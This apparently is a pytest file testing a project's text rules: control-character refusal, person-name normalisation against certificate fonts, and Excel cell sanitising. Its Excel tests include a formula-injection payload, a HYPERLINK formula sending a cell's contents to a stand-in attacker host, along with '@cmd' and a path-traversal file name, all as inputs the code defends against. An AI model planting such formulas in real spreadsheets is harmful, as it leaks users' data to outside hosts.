"""Text rules: characters a text input may hold, person names, Excel cells (chalicelib/services/text.py, excel.py)."""

from __future__ import annotations

import io
import re
import unicodedata
from pathlib import Path

import pytest
from openpyxl import load_workbook

from chalicelib.services.excel import ExcelBook, cell_value, safe_filename
from chalicelib.services.fonts import missing_glyphs
from chalicelib.services.text import (
    InvalidName,
    UnprintableText,
    excel_text,
    person_name,
    printable_text,
    refused_char,
)

ROOT = Path(__file__).resolve().parents[2]


# --- any text input ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "char",
    [
        "\x00",
        "\x01",
        "\x1b",
        "\x1f",
        "\r",
        "\x7f",
        "\x80",
        "\x85",
        "\x9f",
        "\ud800",  # lone surrogates (json.loads makes them from "\ud800")
        "\udfff",
        "\ufdd0",  # noncharacters
        "\ufdef",
        "\ufffe",
        "\uffff",
        "\U0001fffe",
        "\U0010ffff",
    ],
)
def test_controls_surrogates_and_noncharacters_are_refused_anywhere(char):
    assert refused_char(f"南京{char}医院") == char
    assert refused_char(f"南京{char}医院", multiline=True) == char


def test_tab_and_newline_only_in_multiline_text():
    assert refused_char("第一行\n第二行") == "\n"
    assert refused_char("甲\t乙") == "\t"
    assert refused_char("第一行\n第二行\t乙", multiline=True) is None


@pytest.mark.parametrize("text", ["南京市第一医院", "=HYPERLINK(1)", "阿卜杜·热合曼", "😀", "\u200b", "𠮷", " a ", ""])
def test_ordinary_text_passes(text):
    assert refused_char(text) is None


# --- person names --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "张三",
        "王喆",
        "李堃",
        "刘䶮",
        "𠮷田",
        "阿卜杜·热合曼",
        "John Smith",
        "José",
        "Jean-Pierre",
        "O'Brien",
        "Mary-Jane O'Neil",
        "王〇",  # U+3007, category Nl
        "李〇〇",
    ],
)
def test_printable_names_are_kept(name):
    assert person_name(name) == name


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("阿卜杜•热合曼", "阿卜杜·热合曼"),  # U+2022
        ("阿卜杜・热合曼", "阿卜杜·热合曼"),  # U+30FB
        ("阿卜杜‧热合曼", "阿卜杜·热合曼"),  # U+2027
        ("阿卜杜．热合曼", "阿卜杜·热合曼"),  # U+FF0E
        ("阿卜杜･热合曼", "阿卜杜·热合曼"),  # U+FF65
        ("阿卜杜⋅热合曼", "阿卜杜·热合曼"),  # U+22C5
        ("阿卜杜∙热合曼", "阿卜杜·热合曼"),  # U+2219
        ("阿卜杜 · 热合曼", "阿卜杜·热合曼"),
        ("Jose\u0301", "José"),  # NFD typed, NFC stored
        ("张\u3000三", "张 三"),
        ("John   Smith", "John Smith"),
        ("O\u2019Brien", "O'Brien"),  # typographic apostrophe
        ("Jean\u2010Pierre", "Jean-Pierre"),  # typographic hyphen
        ("张\u00a0三", "张 三"),  # a pasted no-break space
        ("John\u2002\u00a0Smith", "John Smith"),  # other space separators, folded then collapsed
        ("\u00a0张三\u202f", "张三"),
    ],
)
def test_names_are_normalised(typed, stored):
    assert person_name(typed) == stored


@pytest.mark.parametrize(
    "name",
    [
        "张😀",  # emoji
        "张\u200b三",  # zero-width space
        "张\u200d三",  # zero-width joiner
        "\u202e张三",  # bidi override
        "张\u2066三\u2069",  # bidi isolate
        "钱\x01某",
        "张\ufeff三",
        "张三1",
        "张(三)",
        "·张三",
        "张三·",
        "张··三",
        "张 · · 三",
        "\u0301张",  # a combining mark after nothing
        "-张三",  # hyphens and apostrophes only between letters
        "张三-",
        "张--三",
        "张-·三",
        "'张三",
        "O''Brien",
        "Jean - Pierre",
        "张\u2028三",  # a line separator is no space
        "محمد",  # letters no certificate font has
        "",
    ],
)
def test_unprintable_names_are_refused(name):
    with pytest.raises(InvalidName):
        person_name(name)


def test_every_letter_accepted_is_one_the_certificate_fonts_print_and_every_printable_letter_is_accepted():
    refused_printable, accepted_unprintable = [], []
    for point in range(0x110000):
        char = chr(point)
        category = unicodedata.category(char)
        if (category[0] != "L" and category != "Nl") or unicodedata.normalize("NFC", char) != char:
            continue
        try:
            person_name(char)
            accepted = True
        except InvalidName:
            accepted = False
        printable = missing_glyphs(char) == []
        if accepted and not printable:
            accepted_unprintable.append(char)
        if printable and not accepted:
            refused_printable.append(char)
    assert accepted_unprintable == [] and refused_printable == []


# --- text printed on a certificate (project and organisation names, reasons) ---------------------------------


@pytest.mark.parametrize(
    "text",
    ["急性胸痛规范化诊治（演示）", "南京示范医院", "𠮷田氏讲座", "李堃·喆", "信息有误\n请更正", "ICU & CCU", "Café"],
)
def test_printable_text_is_kept(text):
    assert printable_text(text) == text


def test_printable_text_is_stored_nfc():
    assert printable_text("Cafe\u0301 讲座") == "Café 讲座"


@pytest.mark.parametrize(
    ("text", "char"),
    [
        ("胸痛\U0001f600诊治", "U+1F600"),  # emoji: no certificate font
        ("胸痛\u200b诊治", "U+200B"),  # zero-width space (Cf)
        ("胸痛\u200d诊治", "U+200D"),  # zero-width joiner
        ("\u202e胸痛诊治", "U+202E"),  # bidi override
        ("胸痛\u2066诊治\u2069", "U+2066"),  # bidi isolate
        ("胸痛\u00ad诊治", "U+00AD"),  # soft hyphen
        ("\ufeff胸痛诊治", "U+FEFF"),  # BOM
        ("胸痛\u0645诊治", "U+0645"),  # Arabic: no certificate font
    ],
)
def test_text_a_certificate_cannot_print_is_refused_naming_the_character(text, char):
    with pytest.raises(UnprintableText, match=re.escape(char)):
        printable_text(text)


def test_every_character_printable_text_accepts_prints_on_a_certificate():
    """Outside GB2312 (the fast path), every character is checked against the fonts: what passes prints."""
    accepted_unprintable = []
    for point in list(range(0x20, 0x3400)) + list(range(0xA000, 0x10000)) + list(range(0x1F000, 0x1FB00)):
        char = chr(point)
        if refused_char(char) is not None or unicodedata.normalize("NFC", char) != char:
            continue
        try:
            printable_text(char)
        except UnprintableText:
            continue
        if missing_glyphs(char) or unicodedata.category(char) == "Cf":
            accepted_unprintable.append(char)
    assert accepted_unprintable == []


# --- Excel cells ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "stored"),
    [
        ('=HYPERLINK("http://evil.example/?"&C3,"x")', '\'=HYPERLINK("http://evil.example/?"&C3,"x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("钱\x01某", "钱某"),
        ("A\x00B", "AB"),
        ("A\x85\ufdd0\ufffeB", "AB"),
        ("第一行\n第二行", "第一行\n第二行"),
        ("南京", "南京"),
        ("2026-12-10", "2026-12-10"),
    ],
)
def test_excel_text_is_never_a_formula_and_holds_no_illegal_character(value, stored):
    assert excel_text(value) == stored


def test_numbers_stay_numbers_and_other_values_become_text():
    assert cell_value(5) == 5 and cell_value(2.5) == 2.5 and cell_value(None) is None
    assert cell_value(True) == "是" and cell_value(-3) == -3
    assert cell_value("=1+1") == "'=1+1"


def test_a_workbook_of_hostile_text_has_no_formula_and_opens():
    book = ExcelBook()
    sheet = book.sheet("名单")
    sheet.table(("姓名", "单位", "学时"), [("钱\x01某", "=1+1", 3), ("A\x00B", "@cmd", -2.5)])
    book.sheet("第二页").append(["+1", "-1"])
    read = load_workbook(io.BytesIO(book.to_bytes()))
    cells = [cell for ws in read.worksheets for row in ws.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    rows = list(read["名单"].iter_rows(values_only=True))
    assert rows == [("姓名", "单位", "学时"), ("钱某", "'=1+1", 3), ("AB", "'@cmd", -2.5)]


def test_file_names_hold_no_path_or_control():
    assert safe_filename("A\x00B/..\\x:y-2026年统计.xlsx") == "A_B_.._x_y-2026年统计.xlsx"


def test_excel_files_are_written_only_through_the_one_writer():
    writers = []
    for path in (ROOT / "chalicelib").rglob("*.py"):
        source = path.read_text()
        if re.search(r"\bWorkbook\(|import Workbook|\.save\(", source) and "openpyxl" in source:
            writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["chalicelib/services/excel.py"]


def test_a_gb2312_name_is_checked_without_reading_the_font_manifest():
    import json
    import subprocess
    import sys

    code = (
        "import json, sys\nfrom chalicelib.services.text import person_name\n"
        "assert person_name('阿卜杜•热合曼') == '阿卜杜·热合曼' and person_name('张三') == '张三'\n"
        "from chalicelib.services.text import printable_text\n"
        "assert printable_text('急性胸痛规范化诊治（演示）') == '急性胸痛规范化诊治（演示）'\n"
        "print(json.dumps('chalicelib.services.fonts' in sys.modules))"
    )
    assert json.loads(subprocess.check_output([sys.executable, "-c", code], cwd=ROOT)) is False
